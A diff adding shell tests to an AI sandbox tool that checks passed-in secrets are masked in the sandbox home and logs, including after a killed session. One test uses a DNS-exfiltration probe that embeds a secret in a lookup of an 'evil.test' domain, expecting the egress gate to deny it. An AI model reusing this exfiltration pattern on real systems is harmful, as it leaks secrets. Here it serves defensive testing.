@@ -59,3 +59,124 @@ with_home() {
 	run env HOME="$WORK/h" XDG_STATE_HOME="$WORK/st" "$AISB" --net none --dry-run -- true
 	[[ "$output" == *"home:       $WORK/st/aisb/homes/default"* ]]
 }
+
+# ---- passed-in values after the session (ns/scrub.h) ------------------------------------------
+
+# Inner commands are single-quoted on purpose: they expand inside the sandbox.
+# shellcheck disable=SC2016
+@test "home: a passed-in value the session wrote into the home is masked at exit, named by variable and file, never printed; a later session finds no trace (control: other data and a linked host file stay)" {
+	export XDG_STATE_HOME="$WORK/state" XDG_CONFIG_HOME="$WORK/config" XDG_CACHE_HOME="$WORK/cache"
+	local canary="canary-$RANDOM$RANDOM-home" other="kept-$RANDOM$RANDOM-value" h="$WORK/state/aisb/homes/default"
+	printf 'FILEKEY=%s\n' "$canary-f" >"$WORK/env"
+	chmod 600 "$WORK/env"
+	echo "$canary" >"$WORK/outside" # a host file a link in the home names: never written through
+	run env ENVKEY="$canary" "$AISB" --net none --env ENVKEY --env-file "$WORK/env" --env "LIT=$canary-l" -- sh -c '
+		mkdir -p ~/.codex/shell_snapshots ~/deep/a/b/c
+		printf "declare -x ENVKEY=\"%s\"\n" "$ENVKEY" >~/.codex/shell_snapshots/1.sh
+		chmod 644 ~/.codex/shell_snapshots/1.sh
+		printf "{\"k\":\"%s\",\"f\":\"%s\",\"o\":\"%s\"}\n" "$ENVKEY" "$FILEKEY" "'"$other"'" >~/deep/a/b/c/state.json
+		head -c 2000000 /dev/zero | tr "\0" a >~/big
+		printf %s "$LIT" >>~/big
+		echo x >~/"$ENVKEY".name
+		printf %s "$FILEKEY" >~/ro
+		chmod 444 ~/ro
+		ln -s "'"$WORK/outside"'" ~/link
+		echo wrote'
+	echo "$output"
+	[ "$status" -eq 0 ]
+	[[ "$output" == *wrote* ]]
+	# said by variable and file, never by value
+	[[ "$output" == *"into 5 files of the sandbox home '$h'"* ]]
+	local head
+	head=$(grep 'the sandbox wrote the value of' <<<"$output")
+	[[ "$head" == *'$ENVKEY'* && "$head" == *'$FILEKEY'* && "$head" == *'$LIT'* ]]
+	[[ "$output" == *"'.codex/shell_snapshots/1.sh' (\$ENVKEY)"* ]]
+	[[ "$output" == *"'deep/a/b/c/state.json' (\$FILEKEY, \$ENVKEY)"* ]] # the longer value first
+	[[ "$output" == *"'big' (\$LIT)"* ]]
+	[[ "$output" == *"'ro' (\$FILEKEY)"* ]]
+	[[ "$output" == *"(\$ENVKEY): in its name, renamed"* ]]
+	[[ "$output" != *"$canary"* ]]
+	# nothing of it anywhere in aisb's state; the files keep their size, mode and shape
+	no_trace "$canary" "$XDG_STATE_HOME"
+	grep -qx "declare -x ENVKEY=\"$(python3 -c 'import sys; print(("REDACTED"*9)[:int(sys.argv[1])])' ${#canary})\"" \
+		"$h/.codex/shell_snapshots/1.sh"
+	[ "$(stat -c %a "$h/.codex/shell_snapshots/1.sh")" = 644 ]
+	[ "$(stat -c %a "$h/ro")" = 444 ]
+	[ "$(stat -c %s "$h/big")" -eq $((2000000 + ${#canary} + 2)) ]
+	python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); assert d["o"]==sys.argv[2], d' \
+		"$h/deep/a/b/c/state.json" "$other"
+	# control: the host file the planted link names is untouched
+	[ "$(cat "$WORK/outside")" = "$canary" ]
+	[ -L "$h/link" ]
+	# a later session in another project reads the masked file, not the value
+	mkdir -p "$WORK/proj2"
+	cd "$WORK/proj2"
+	run "$AISB" --net none -- sh -c 'cat ~/.codex/shell_snapshots/1.sh ~/deep/a/b/c/state.json'
+	[ "$status" -eq 0 ]
+	[[ "$output" == *REDACTED* && "$output" == *"$other"* && "$output" != *"$canary"* ]]
+	# control: the same value passed again and not written: nothing to say
+	run env ENVKEY="$canary" "$AISB" --net none --env ENVKEY -- true
+	[ "$status" -eq 0 ]
+	[[ "$output" != *"the sandbox wrote"* ]]
+	# control: a value that was not passed in is the sandbox's own data and stays
+	run "$AISB" --net none -- sh -c 'echo "'"$canary"'" > ~/mine'
+	[ "$(cat "$h/mine")" = "$canary" ]
+	[[ "$output" != *"the sandbox wrote"* ]]
+}
+
+@test "home: a passed-in value in aisb's own records (egress log, kept session dir) is masked too" {
+	export XDG_STATE_HOME="$WORK/state" XDG_CONFIG_HOME="$WORK/config" XDG_CACHE_HOME="$WORK/cache"
+	local canary="canary-$RANDOM$RANDOM-log"
+	# the name is denied by the gate's own resolver (nothing leaves this machine) and logged
+	run env K="$canary" "$AISB" --keep --allow example.com --env K -- sh -c 'getent hosts "$K.evil.test"; true'
+	echo "$output"
+	[ "$status" -eq 0 ]
+	[[ "$output" == *"the sandbox wrote the value of \$K into 1 file of the session dir"*"'egress.jsonl' (\$K)"* ]]
+	grep -q 'REDACTED' "$(session_dir)/egress.jsonl"
+	# not kept: the log moved to the state dir at exit is masked before
+	run env K="$canary" "$AISB" --allow example.com --env K -- sh -c 'getent hosts "$K.evil.test"; true'
+	[ "$status" -eq 0 ]
+	ls "$XDG_STATE_HOME"/aisb/egress/*.jsonl
+	no_trace "$canary" "$XDG_STATE_HOME" "$(run_dir)"
+	# control: the log has the denial, with the name's other labels
+	grep -q '"evil.test\|\.evil\.test' "$XDG_STATE_HOME"/aisb/egress/*.jsonl
+}
+
+# shellcheck disable=SC2016
+@test "home: a session whose supervisor was killed before its check leaves a record; the next session on the home checks back to its start (control: the value is there until then)" {
+	export XDG_STATE_HOME="$WORK/state" XDG_CONFIG_HOME="$WORK/config" XDG_CACHE_HOME="$WORK/cache"
+	local canary="canary-$RANDOM$RANDOM-kill" h="$WORK/state/aisb/homes/default" sup _
+	K="$canary" "$AISB" --net none --env K -- sh -c 'echo "$K" > ~/snap; touch ready; while :; do sleep 1; done' \
+		>"$WORK/out" 2>&1 &
+	sup=$!
+	for _ in $(seq 200); do
+		[ -e "$PROJ/ready" ] && break
+		sleep 0.05
+	done
+	[ -e "$PROJ/ready" ]
+	# the record of the pending check exists while the session runs
+	ls "$XDG_STATE_HOME"/aisb/scrub/default/* >/dev/null
+	local mark
+	mark=$(ls "$XDG_STATE_HOME"/aisb/scrub/default/*)
+	kill -9 "$sup"
+	wait "$sup" || true
+	# until the sandbox that died with it let go of the record too
+	for _ in $(seq 200); do
+		flock -n "$mark" true && break
+		sleep 0.05
+	done
+	# the supervisor had no chance: the value is in the home (the window this record closes)
+	grep -qF "$canary" "$h/snap"
+	# the next session with the same value, writing nothing, checks what the killed one changed
+	run env K="$canary" "$AISB" --net none --env K -- true
+	echo "$output"
+	[ "$status" -eq 0 ]
+	[[ "$output" == *"1 earlier session on the home '$h' ended without its check for passed-in values"* ]]
+	[[ "$output" == *"'snap' (\$K)"* ]]
+	[[ "$output" != *"$canary"* ]]
+	no_trace "$canary" "$XDG_STATE_HOME"
+	# done: the records are gone, and the next run says nothing
+	[ -z "$(ls -A "$XDG_STATE_HOME/aisb/scrub/default")" ]
+	run env K="$canary" "$AISB" --net none --env K -- true
+	[[ "$output" != *"earlier session"* && "$output" != *"the sandbox wrote"* ]]
+}
